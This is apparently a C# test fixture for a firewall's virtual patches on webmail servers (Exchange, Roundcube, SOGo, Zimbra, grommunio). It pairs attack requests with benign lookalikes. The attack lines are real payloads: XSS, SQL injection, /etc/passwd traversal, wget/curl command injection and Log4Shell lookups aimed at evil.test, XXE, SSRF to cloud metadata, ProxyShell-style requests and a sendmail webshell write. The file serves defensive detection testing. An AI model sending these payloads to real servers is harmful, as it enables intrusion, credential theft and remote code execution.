namespace WebPublisher.Web.Tests.VirtualPatches;

/// <summary>Attacks as they were published, in several spellings, and what clients legitimately send that looks alike.</summary>
internal static class PatchCases
{
    /// <summary>Under the name of a patch, attacks begin with <c>!</c> and twins with <c>=</c>.</summary>
    private const string Text = """
        markupInQuery
        ! GET /c/?q=%3Cscript%3Ealert(1)%3C/script%3E
        ! GET /c/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E
        ! GET /c/?q=%25253cScRiPt%2525203E
        ! GET /c/?_task=mail&_action=show&_uid=1&_x=%3Csvg%20onload%3Dalert(1)%3E
        ! GET /c/?q=%3Cimg/src=x%20onerror=alert(1)%3E
        ! GET /c/?q=%3Cimg%20src=x%0aonerror%20=alert(1)%3E
        ! GET /c/?q=%3Ca%20href=%22java%09script:alert(1)%22%3E
        ! GET /c/?url=javascript:alert(document.cookie)
        ! GET /c/?url=%20JaVaScRiPt%3Aalert(1)
        ! GET /c/?q=%22%20onfocus=alert(1)%20autofocus%20x=%22
        ! GET /c/?q=%27%3balert(1)%2f%2f
        ! GET /c/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)
        ! GET /c/?q=%C0%BCscript%C0%BE
        ! GET /c/?q=%u003cscript%u003e
        ! GET /c/?%3Cscript%3E=1
        ! GET /c/?q=%3Cbody%09onpageshow=alert(1)%3E
        ! GET /c/?q=%3Ciframe%20srcdoc=x%3E
        = GET /c/?q=1+%3C+2+on+sale
        = GET /c/?_to=%22Alice%20Example%22%20%3Calice@example.test%3E
        = GET /c/?q=%3Cb%3Ebold%3C/b%3E
        = GET /c/?q=once%20upon%20a=b
        = GET /c/?q=it's%20on%20time
        = GET /c/?subject=Re%3A%20javascript%20course
        sqlInQuery
        ! GET /c/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-
        ! GET /c/?id=1+union+all+select+null,null
        ! GET /c/?id=1/**/UnIoN/*x*/SeLeCt/**/1,2
        ! GET /c/?id=-1%20union%20select%201,user()
        ! GET /c/?id=1%2527%2520or%25201%253D1
        ! GET /c/?id=%27%20or%20%271%27=%271
        ! GET /c/?id=%22%20or%20%22%22=%22
        ! GET /c/?user=admin%27--
        ! GET /c/?user=admin%27%20%23
        ! GET /c/?id=1;drop%20table%20users
        ! GET /c/?id=1%27%3B%20EXEC%20xp_cmdshell(%27dir%27)
        ! GET /c/?id=1%20and%20sleep(5)
        ! GET /c/?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--
        ! GET /c/?id=1%20and%20(select%20count(*)%20from%20information_schema.tables)%3E0
        ! GET /c/?id=1%20or%201=1
        ! GET /c/?id=1)%20or%20(1=1
        ! GET /c/?id=x%27%20and%20extractvalue(1,concat(0x7e,version()))
        ! GET /c/?id=1%20order%20by%2010
        ! GET /c/?id=1%20/*!50000union*/%20/*!50000select*/%201
        = GET /c/?q=O%27Brien%20or%20Smith
        = GET /c/?q=select%20the%20union%20of%20both
        = GET /c/?q=western%20union%20select%20services
        = GET /c/?q=rock%20%27n%27%20roll%20and%20more
        = GET /c/?q=drop%20table%20reservation;%20please
        = GET /c/?q=1%20or%202%20tickets
        = GET /c/?q=where%20is%20my%20order%20by%20mail
        = GET /c/?filter=from%3Aalice%20AND%20subject%3A%22weekly%20report%22
        = GET /c/?q=%22exact%20phrase%22%20or%20other
        fileInQuery
        ! GET /c/?f=../../../../etc/passwd
        ! GET /c/?f=..%2f..%2f..%2fetc%2fpasswd
        ! GET /c/?f=..%252f..%252fetc/shadow
        ! GET /c/?f=..%5c..%5c..%5cwindows%5cwin.ini
        ! GET /c/?f=%2e%2e/%2e%2e/%2e%2e/x
        ! GET /c/?f=..%c0%af..%c0%af..%c0%afetc/passwd
        ! GET /c/?f=/etc/passwd%00.jpg
        ! GET /c/?f=C:%5cWindows%5cSystem32%5cdrivers
        ! GET /c/?page=php://filter/convert.base64-encode/resource=index
        ! GET /c/?page=PHP://input
        ! GET /c/?page=file:///etc/hosts
        ! GET /c/?skin=../WEB-INF/web.xml
        ! GET /c/?f=....//....//....//etc/passwd
        = GET /owa/?x=../../y
        = GET /c/?url=https%3A%2F%2Fexample.test%2Fa%2Fb
        = GET /c/?_mbox=INBOX/Projects/2026
        = GET /c/?q=what%20is%20etc/passwd
        = GET /c/?path=/mail/inbox
        = GET /c/?q=and%20so%20on...../
        lineBreakInQuery
        ! GET /c/?u=%0d%0aSet-Cookie:%20x=1
        ! GET /c/?u=a%0ALocation:%20https://evil.test
        ! GET /c/?u=%250d%250aSet-Cookie:%2520x=1
        ! GET /c/?u=x%0d%0a%0d%0a%3Chtml%3E
        ! GET /c/?u=%E5%98%8D%0D%0AX-Y:z
        ! GET /c/service/home/~/?auth=co&x=%0d%0aset%20route
        ! GET /c/?u=x%0aHTTP/1.1%20200%20OK
        = GET /c/?_task=mail&_action=compose&_body=Hello%0D%0ANote:%20bring%20cake
        = GET /c/?q=two%0Alines
        commandInQuery
        ! GET /c/?f=x;cat%20/etc/hosts
        ! GET /c/?f=x|id
        ! GET /c/?f=%60whoami%60
        ! GET /c/?f=$(uname%20-a)
        ! GET /c/?f=a;wget%20http://evil.test/x
        ! GET /c/?f=a%26%26curl%20https://evil.test
        ! GET /c/?f=;c%27a%27t%20/x
        ! GET /c/?f=;cat$IFS/x
        ! GET /c/?f=;/bin/sh
        ! GET /c/?f=%7B%7B7*7%7D%7D
        ! GET /c/?f=$%7B7*7%7D
        ! GET /c/?f=%25%7B(%23_memberAccess=x)%7D
        ! GET /c/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
        ! GET /c/?f=%3C?php%20x
        = GET /c/?q=Tom%20%26%20Jerry;%20cats%20and%20dogs
        = GET /c/?q=id;%20please
        = GET /c/?q=a;%20type%20of%20mail
        = GET /c/?q=ping%20pong|table%20tennis
        = GET /c/?q=first%20line;%20head%20of%20department
        = GET /c/?q=$(price)
        phpObject
        ! GET /c/?x=O:8:%22stdClass%22:0:%7B%7D
        ! GET /c/?x=a:1:%7Bi:0;O:%2B8:%22stdClass%22:0:%7B%7D%7D
        ! GET /c/?x=O%253A8%253A%2522stdClass%2522
        ! GET /c/ ¦ Cookie: prefs=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D
        ! GET /c/ ¦ Cookie: a=1; prefs=O:8:"stdClass":0:{}
        = GET /c/?x=NO:8:00
        = GET /c/?q=ISO:9:%22001%22
        = GET /c/ ¦ Cookie: a=b:"c"; json=%7B%22O%22:8%7D
        log4Shell
        ! GET /c/?x=$%7Bjndi:ldap://evil.test/a%7D
        ! GET /c/?x=${jndi:ldap://evil.test/a}
        ! GET /c/ ¦ User-Agent: ${jndi:ldap://evil.test/a}
        ! GET /c/ ¦ X-Api-Version: ${${lower:j}ndi:${lower:l}dap://evil.test}
        ! GET /c/ ¦ Referer: ${${::-j}${::-n}${::-d}${::-i}:rmi://evil.test}
        ! GET /c/ ¦ X-A: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.test}
        ! GET /c/ ¦ Cookie: a=${JNDI:dns://evil.test}
        ! GET /c/$%7Bjndi:ldap:x%7D
        ! GET /c/?x=%2524%257Bjndi:x
        = GET /c/?x=$%7Bname%7D
        = GET /c/ ¦ X-Template: ${user} and ${mail}
        spring4Shell
        ! GET /c/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
        ! GET /c/?class%2Emodule%2EclassLoader.x=1
        ! GET /c/?class.classLoader.x=1
        = GET /c/?class=economy&className=a
        shellshock
        ! GET /c/ ¦ User-Agent: () { :;}; /bin/ls
        ! GET /c/ ¦ Referer: () {_; } >_[$($())] { x; }
        ! GET /c/ ¦ X-A: ()	{ x
        = GET /c/ ¦ User-Agent: Mozilla/5.0 (X11; Linux x86_64)
        = GET /c/ ¦ X-A: () empty
        externalEntity
        ! POST /autodiscover/Autodiscover.xml ¦ Content-Type: text/xml ¦¦ <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Autodiscover>&e;</Autodiscover>
        ! POST /autodiscover/autodiscover.xml ¦ Content-Type: application/octet-stream ¦¦ <?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE x SYSTEM "http://evil.test/x.dtd"><x/>
        ! POST /ews/exchange.asmx ¦ Content-Type: text/xml; charset=utf-16 ¦¦ þÿ\0<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0x\0[\0<\0!\0E\0N\0T\0I\0T\0Y
        ! PROPFIND /SOGo/dav/a/ ¦ Content-Type: application/xml ¦¦ ï»¿ <!doctype d PUBLIC "x" "http://evil.test">
        ! POST /service/soap ¦ Content-Type: application/soap+xml ¦¦ <?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE
        = POST /autodiscover/autodiscover.xml ¦ Content-Type: text/xml ¦¦ <?xml version="1.0" encoding="utf-8"?><Autodiscover><Request><EMailAddress>a@b.test</EMailAddress></Request></Autodiscover>
        = POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <s:Envelope><s:Body>&lt;!DOCTYPE x [ in a message &lt;!ENTITY</s:Body></s:Envelope>
        = POST /c/x ¦ Content-Type: text/html ¦¦ <!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN"><html/>
        scanner
        ! GET /c/ ¦ User-Agent: sqlmap/1.7
        ! GET /c/ ¦ User-Agent: Mozilla/5.0 (compatible; Nuclei - Open-source project)
        ! GET /c/ ¦ User-Agent: Mozilla/5.00 (Nikto/2.1.6)
        = GET /c/ ¦ User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36
        = GET /c/ ¦ User-Agent: Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5134; Pro)
        = GET /c/ ¦ User-Agent: Apple-iPhone14C2/1902.81
        = GET /c/ ¦ User-Agent: curl/8.5.0
        = GET /c/
        rangeOverflow
        ! GET /c/ ¦ Range: bytes=0-18446744073709551615
        ! GET /c/ ¦ Range: bytes=18-18446744073709551615, 1-2
        = GET /c/ ¦ Range: bytes=0-499, 1000-1499
        = GET /c/ ¦ Range: bytes=9500000000-
        proxyLogon
        ! POST /owa/auth/x.js ¦ Cookie: X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3
        ! POST /ecp/y.js ¦ Cookie: X-BEResource=localhost/ecp/proxyLogon.ecp?a=~1942062522
        ! GET /ecp/program.js ¦ Cookie: a=1; x-beresource=]@ex01.corp.test:443/autodiscover/autodiscover.xml?#~1
        ! GET /ecp/x.js ¦ Cookie: X-BEResource=Admin@ex01.corp.test:444/ecp/proxyLogon.ecp?~194
        ! GET /ecp/x.js ¦ Cookie: X-BEResource=localhost%2fecp%2f~1
        ! GET /ecp/x.js ¦ Cookie: X-BEResource=localhost%252fecp~1
        = GET /owa/x.js ¦ Cookie: X-BEResource=ex01.corp.test~1942062522
        = GET /owa/x.js ¦ Cookie: X-BackEndCookie=S-1-5-21-1=u56Lnp2ejJqBxs3Kz/Sz7Q==; X-BEResource=
        virtualDirectoryScript
        ! POST /ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x ¦ Content-Type: application/json ¦¦ {"properties":{"Parameters":{"ExternalUrl":"http://x/#<script language=\"JScript\" runat=\"server\">"}}}
        ! POST /ECP/ddi/ddiservice.SVC/setobject?schema=x ¦ Content-Type: application/json ¦¦ {"ExternalUrl":"http://x/#\u003cscript\u003e"}
        ! POST /ecp/DDI;x/DDIService.svc/SetObject ¦¦ {"ExternalUrl":"http://x/#%3Cscript"}
        = POST /ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory ¦ Content-Type: application/json ¦¦ {"properties":{"Parameters":{"ExternalUrl":"https://mail.example.test/OAB"}}}
        proxyShell
        ! POST /autodiscover/autodiscover.json?a@evil.test/powershell/?X-Rps-CAT=VgEA&Email=autodiscover/autodiscover.json%3Fa@evil.test
        ! GET /autodiscover/autodiscover.json?@evil.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.test
        ! POST /autodiscover/autodiscover.json?@evil.test/ews/exchange.asmx
        ! POST /autodiscover/AutoDiscover.JSON?a%40evil.test%2Fews%2Fx
        ! POST /autodiscover/autodiscover.json?a%2540evil.test/x
        ! GET /mapi/nspi?x=autodiscover.json%3Fa@evil.test/mapi/
        ! GET /autodiscover/autodiscover.json/a@evil.test/x/y
        ! GET /owa/ ¦ Cookie: Email=autodiscover/autodiscover.json%3f@evil.test
        ! POST /owa/?X-Rps-CAT=VgEAVA
        ! GET /autodiscover;x/autodiscover.json?a@evil.test
        ! GET /autodiscover/autodiscover.json?Email=a@evil.test/owa/%3F
        = GET /autodiscover/autodiscover.json?Email=user%40example.test&Protocol=ActiveSync&RedirectCount=1
        = GET /autodiscover/autodiscover.json?Email=user@example.test&Protocol=Autodiscoverv1
        = GET /autodiscover/autodiscover.json/v1.0/user@example.test?Protocol=AutodiscoverV1
        = POST /autodiscover/autodiscover.xml
        = GET /autodiscover/autodiscover.svc
        = GET /ews/exchange.asmx?wsdl ¦ Cookie: email=user@example.test
        proxyNotShell
        ! GET /autodiscover/autodiscover.json?a@evil.test/%2550owerShell/
        ! GET /autodiscover/a@evil.test/PowerShell/autodiscover.json
        ! GET /autodiscover/autodiscover.json?a..foo.var/owa/%3F&Email=autodiscover/autodiscover.json?a..foo.var&Protocol=XYZ&FooProtocol=%50owershell
        ! GET /autodiscover/x?%252550%25256fwershell
        ! GET /x/powershell?autodiscover
        ! GET /autodiscover/autodiscover.json?p%6fwer%73hell
        = GET /autodiscover/autodiscover.json?Email=user@example.test&Protocol=ActiveSync
        = GET /owa/?q=powershell
        owassrf
        ! POST /owa/mastermailbox@outlook.com/powershell
        ! POST /OWA/x@y.test/PowerShell;a=b/?z
        ! POST /owa/x@y.test/powershell./
        ! POST /owa/x@y.test?/powershell
        ! GET /owa/ ¦ X-OWA-ExplicitLogonUser: owa/mastermailbox@outlook.com
        ! GET /owa/ ¦ X-OWA-ExplicitLogonUser: owa%2Fmastermailbox@outlook.com
        = GET /owa/user@example.test/ ¦ X-OWA-ExplicitLogonUser: user@example.test
        = GET /owa/?q=powershell+course
        powershell
        ! POST /powershell
        ! POST /PowerShell/?serializationLevel=Full
        ! POST /powershell;x/
        ! POST /owa/x/powershell/
        ! POST /powershell-liveid/
        = GET /owa/powershell-tips.html
        proxyToken
        ! POST /ecp/a@example.test/RulesEditor/InboxRules.svc/NewObject ¦ Cookie: SecurityToken=x
        ! POST /ECP/a/b ¦ Cookie: a=1; securitytoken=%20
        ! GET /c/ ¦ Cookie: SecurityToken=x
        = GET /ecp/ ¦ Cookie: SecurityToken=; a=1
        = GET /ecp/ ¦ Cookie: a=SecurityToken=x
        proxyOracle
        ! GET /owa/auth/frowny.aspx?app=people&et=ServerError&esrc=MasterPage&te=\&refurl=}}};alert(document.domain)//
        ! GET /owa/auth/Frowny.ASPX?refurl=x
        ! GET /owa/auth/frowny.aspx;a?RefUrl=x
        ! GET /owa/auth/frowny.aspx?%72efurl=x
        = GET /owa/auth/frowny.aspx?app=mail&et=NotFound
        = GET /owa/auth/logon.aspx?refurl=x
        viewStateInQuery
        ! GET /ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEy
        ! GET /owa/x.aspx?__viewstate=%2FwEy
        ! GET /ecp/x.aspx?%5F%5fVIEWSTATE=a
        = POST /ecp/x.aspx?a=__VIEWSTATE ¦ Content-Type: application/x-www-form-urlencoded ¦¦ __VIEWSTATE=%2FwEy
        = GET /other/?__VIEWSTATE=x
        dlpPolicy
        ! GET /ecp/DLPPolicy/ManagePolicyFromISV.aspx
        ! POST /ecp/dlppolicy/managepolicyfromisv.aspx;x=1
        ! GET /ecp//DLPPolicy//ManagePolicyFromISV.aspx.
        = GET /ecp/DLPPolicy/
        webShells
        ! POST /owa/auth/errorEE.aspx
        ! POST /aspnet_client/supp0rt.aspx
        ! POST /aspnet_client/system_web/x.ashx
        ! GET /ecp/auth/x.aspx
        ! GET /owa/auth/Current/themes/resources/x.aspx/y.js
        ! GET /owa/auth/errorEE.aspx./
        ! GET /owa/auth/errorEE.aspx;x=1
        ! GET /OWA//Auth/eRRoREE.ASPX
        ! GET /oab/x.aspx
        ! GET /autodiscover/x.asp
        = GET /owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example.test%2fowa%2f
        = GET /owa/auth/errorFE.aspx?httpCode=500
        = GET /owa/auth/15.2.1118/scripts/premium/flogon.js
        = POST /owa/auth.owa
        = POST /ews/Exchange.asmx
        = GET /ecp/auth/TimeoutLogout.aspx
        = GET /owa/default.aspx
        = POST /Microsoft-Server-ActiveSync/default.eas?Cmd=Ping
        autodiscoverMarkup
        ! POST /autodiscover/autodiscover.json ¦¦ %3Cscript%3Ealert(document.domain)%3B+a=%22%3C%2Fscript%3E&x=1
        ! POST /Autodiscover/AutoDiscover.json ¦ Content-Type: text/plain ¦¦ <img src=x onerror=alert(1)>
        = POST /autodiscover/autodiscover.json ¦ Content-Type: application/json ¦¦ {"Email":"user@example.test"}
        ewsBinaryData
        ! POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <s:Envelope><m:CreateUserConfiguration><t:UserConfigurationName/><t:BinaryData>AAEAAAD/////AQ</t:BinaryData>
        ! POST /EWS/Exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:UpdateUserConfiguration><m:UserConfiguration><t:BinaryData>\n  AAEAAAD/////AQ
        = POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:CreateUserConfiguration><t:BinaryData>PD94bWwgdmVy</t:BinaryData>
        ! POST /ews/exchange.asmx ¦¦ <m:CreateUserConfiguration><t:BinaryData>AAEAAAD/////AQ</t:BinaryData>
        = POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:CreateAttachment><t:Content>AAEAAAD/////AQ</t:Content>
        ewsPushSubscription
        ! POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:Subscribe><m:PushSubscriptionRequest><t:URL>http://evil.test</t:URL>
        = POST /ews/exchange.asmx ¦ Content-Type: text/xml ¦¦ <m:Subscribe><m:StreamingSubscriptionRequest/>
        iisStream
        ! GET /owa/x.aspx::$DATA
        ! GET /owa/x.aspx::$data
        ! GET /admin:$i30:$INDEX_ALLOCATION/x
        ! GET /owa/x.aspx%3a%3a%24DATA
        = GET /owa/RE:x
        = GET /owa/a::b
        iisShortName
        ! GET /*~1*/a.aspx
        ! GET /owa/a*~2.*/x
        = GET /owa/~user
        = GET /owa/a~1.txt
        iisCookieless
        ! GET /owa/(S(abc))/x.aspx
        ! GET /(A(x))/(S(y))/ecp/
        = GET /owa/(a)
        = GET /owa/f(x)/(y)
        iisDoubleExtension
        ! GET /owa/x.asp;.jpg
        ! GET /owa/x.ASPX;a/b.png
        = GET /owa/x.jpg;jsessionid=1
        iisAcceptEncoding
        ! GET /owa/ ¦ Accept-Encoding: doar-e, ftw, imo, ,
        ! GET /owa/ ¦ Accept-Encoding: AAAAAAAAAAAAAAAAAA,,
        = GET /owa/ ¦ Accept-Encoding: gzip, deflate, br
        = GET /owa/
        iisWebDavIf
        ! PROPFIND /owa/ ¦ If: <http://localhost/aaaaaaaæ½¨ç¡£> (Not <locktoken:write1>)
        = PROPFIND /owa/ ¦ If: <https://mail.example.test/owa/x> (<opaquelocktoken:e71d4fae-5dec-22d6-fea5-00a0c91e6be4>)
        roundcubeFrom
        ! POST /c/?_task=settings&_remote=1&_from=edit-!xxx&_id=1&_uploadid=u&_action=upload
        ! POST /?_task=settings&_action=upload&_from=add-a%7Cb
        ! POST /?_action=upload&_FROM=%2521a
        ! POST /?_action=upload&.from=!a
        ! POST /?_action=upload&+_from=!a
        ! POST /?_action=upload&%5ffrom[]=!a
        ! POST /?_action=upload&_from%00x=!a
        ! POST /?_action=upload&_from=edit-edit-!a
        = POST /?_task=settings&_action=upload&_from=edit-identity&_id=1
        = POST /?_task=mail&_action=upload&_id=7323284316b01d2ab70173&_from=compose&_uploadid=upload1795281589457
        = GET /?_task=mail&_from=
        roundcubeSendmail
        ! POST /?_task=mail ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=send&_from=example%40example.com+-OQueueDirectory%3D%2Ftmp+-X%2Fvar%2Fwww%2Fx.php
        ! POST /?_task=mail&_action=send&_from=a@b.test%20-X/tmp/x
        ! POST /?_task=mail ¦ Content-Type: multipart/form-data; boundary=b ¦¦ --b\r\nContent-Disposition: form-data; name="_from"\r\n\r\na@b.test -X/tmp/x\r\n--b--\r\n
        ! POST /?_task=mail ¦ Content-Type: application/x-www-form-urlencoded ¦¦ x=1&%5Ffrom=a%2520-X/tmp
        = POST /?_task=mail ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=send&_from=1&_message=run+a+-X+b
        = POST /?_task=mail ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=send&_from=Alice+-+Sales+%3Calice%40example.test%3E
        roundcubeUploadDisplay
        ! GET /?_task=settings&_action=upload-display&_from=timezone&_file=rcmfilex
        ! GET /?_task=settings&_action=upload-display&_from=%74imezone
        = GET /?_task=settings&_action=upload-display&_from=identity&_file=rcmfile123
        roundcubeInstaller
        ! POST /installer2/index.php ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _step=2&_im_convert_path=php+-r+x%3B
        ! POST /x?_im_identify_path=a
        ! POST /x ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _plugins_qwerty=..%2F..%2Fx
        = POST /?_task=settings ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _token=x&_task=settings&_action=save-prefs&_timezone=auto
        roundcubeInside
        ! GET /installer/
        ! GET /roundcube/config/config.inc.php
        ! GET /c/logs/errors.log
        ! GET /TEMP/x
        ! GET /mail//vendor/autoload.php
        ! GET /bin;x/update.sh
        ! GET /SQL./mysql.initial.sql
        ! GET /composer.json
        = GET /plugins/jqueryui/vendor/x.js
        = GET /roundcube/program/js/app.min.js
        = GET /skins/elastic/config/x.css
        = GET /?_task=settings&_mbox=config
        = GET /
        roundcubeLineBreak
        ! GET /?_task=mail&_action=mark&_uid=4%20MOVE%20x%0d%0aA1%20LOGOUT
        ! GET /?_task=mail&_action=list&_mbox=INBOX%250d%250aA
        ! POST /?_task=mail ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=search&_filter=ALL%0D%0AX
        ! POST /?_task=settings ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=plugin.managesieve-save&_name=a%0a%7D
        = POST /?_task=mail ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=send&_message=Hello%0D%0AA1+LOGOUT&_mbox=Sent
        = GET /?_task=mail&_action=search&_q=two+words
        roundcubeUser
        ! POST /?_task=login ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _task=login&_action=login&_user=a%0aFailed+login&_pass=x
        ! POST /?_task=login ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _user=a%00b
        = POST /?_task=login ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _user=j%C3%BCrgen%40example.test&_pass=%01%02
        roundcubeSearch
        ! GET /?_task=addressbook&_search=1%27%20or%20sleep(1)
        ! POST /?_task=mail ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _search=1)%3Bx
        = GET /?_task=mail&_search=51d00bbcb5de921832af6fae4b74537b&_sort=arrival_DESC
        roundcubeSkin
        ! GET /?_skin=../../x
        ! POST /?_task=settings ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=save-prefs&_skin=..%2F..%2Fx
        = POST /?_task=settings ¦ Content-Type: application/x-www-form-urlencoded ¦¦ _action=save-prefs&_skin=elastic
        sogoTheme
        ! GET /SOGo/?theme=x%22%3E%3Csvg/onload=alert(1)%3E
        ! GET /SOGo/so/a/Mail/view?Theme=../x
        = GET /SOGo/?theme=dark_2
        sogoUserName
        ! GET /SOGo/so/?userName=%3Cimg%20src=x%3E
        ! GET /SOGo/?userName=a%22b
        = GET /SOGo/?userName=O'Neil@example.test
        sogoAcl
        ! GET /SOGo/so/a/Calendar/personal/addUserInAcls?uid=x'||(select%20c_password%20from%20sogo_users)||'
        ! GET /SOGo/so/a/Contacts/personal/addUserInAcls?uid=x%27);
        = GET /SOGo/so/a/Calendar/personal/addUserInAcls?uid=o'neil
        zimbraMailboxImport
        ! POST /service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd
        ! POST /service;x/extension//backup/MBOXIMPORT
        = POST /service/soap/SendMsgRequest
        = GET /service/extension/zm_xml_api
        zimbraMemcached
        ! GET /c/service/home/~/?auth=co&x=%0d%0aset%20route
        ! GET /home/a@b.test/inbox?x=%250aget%20y
        = GET /service/home/~/?auth=co&id=257&part=2
        = GET /h/search?q=a%0ab
        zimbraCalendar
        ! GET /h/calendar?view=%22%20onmouseover=alert(1)
        ! GET /h/autoSaveDraft?id=%3Cscript%3E
        = GET /h/calendar?view=month&date=20260101
        = GET /h/search?st=message&sq=subject:%22weekly%22
        zimbraMobile
        ! GET /m/momoveto?st=acg%22%20onfocus=alert(1)%20autofocus
        ! GET /m/x?ST=a%27b
        = GET /m/zmain?st=message&action=compose
        zimbraSkin
        ! GET /res/I18nMsg,AjxMsg.js.zgz?v=091214175450&skin=../../../../opt/zimbra/conf/localconfig.xml%00
        ! GET /zimbra/?skin=%2e%2e/x
        = GET /zimbra/?skin=serenity
        zimbraInclude
        ! GET /h/rest?javax.servlet.include.servlet_path=/WEB-INF/web.xml
        ! GET /h/changepass?javax%2eservlet.include.servlet_path=/x
        = GET /h/rest?loc=en&fmt=json
        zimbraPackages
        ! GET /res/x.js?packages=../../etc
        ! GET /js/?packages=a%2f..%2fb
        = GET /js/?packages=Startup1_1,Startup1_2
        zimbraProxy
        ! POST /service/proxy?target=https://127.0.0.1:7071/service/admin/soap
        ! POST /service/proxy?target=http://localhost/
        ! GET /service/proxy?target=https%3A%2F%2Fmail.example.test%3A7071%2F
        ! GET /service/proxy?target=http://169.254.169.254/latest
        ! GET /service/proxy?target=http://[::1]/
        ! GET /service/proxy?target=gopher://x.test/
        ! GET /service/proxy?target=https://example.test/ ¦ X-Host: 127.0.0.1
        = GET /service/proxy?target=https://api.example.test/weather
        zimbraWebEx
        ! GET /zimlet/com_zimbra_webex/httpPost.jsp?companyId=http://evil.test%23
        = GET /zimlet/com_zimbra_webex/httpPost.jsp?companyId=example
        zimbraSalesforce
        ! GET /service/error/sfdc_preauth.jsp?session=s&userid=1&server=http://evil.test%23.salesforce.com/
        ! GET /service/error/sfdc_preauth.jsp?server=evil.test/.salesforce.com
        = GET /service/error/sfdc_preauth.jsp?session=s&userid=1&server=https://eu1.salesforce.com/
        zimbraInside
        ! GET /WEB-INF/web.xml
        ! GET /zimbra/web-inf;x/web.xml
        ! POST /service/admin/soap
        ! GET /zimbraAdmin/
        = POST /service/soap
        = GET /zimbra/
        grommunioInside
        ! GET /web/config.php
        ! GET /web/server/includes/core/class.x.php
        ! GET /web/config.php.dist
        ! GET /WEB/server;x/
        = GET /web/?load=translations.js&lang=en
        = GET /web/client/resources/x.js
        """;

    /// <summary>All of them.</summary>
    public static IReadOnlyList<PatchCase> All { get; } = Read();

    private static List<PatchCase> Read()
    {
        var cases = new List<PatchCase>();
        var patch = "";
        foreach (var line in Text.Split('\n').Select(line => line.TrimEnd('\r')))
        {
            switch (line)
            {
                case ['!' or '=', ' ', .. var request]:
                    cases.Add(new PatchCase(patch, line[0] == '!', request));
                    break;
                default:
                    patch = line;
                    break;
            }
        }

        return cases;
    }
}
